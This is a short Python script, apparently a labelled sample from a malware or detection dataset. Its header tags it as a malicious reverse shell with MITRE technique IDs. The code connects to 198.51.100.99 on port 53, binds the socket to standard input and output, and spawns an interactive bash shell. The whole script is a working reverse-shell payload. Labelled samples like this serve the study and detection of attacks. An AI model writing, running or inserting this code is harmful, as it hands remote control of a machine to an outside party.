# label: malicious family=revshell techniques=T1059.004,T1095 lines=6-8
# -*- coding: utf-8 -*-
import socket,os,pty
print "starting"
s=socket.socket()
s.connect(("198.51.100.99",53))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/bash")
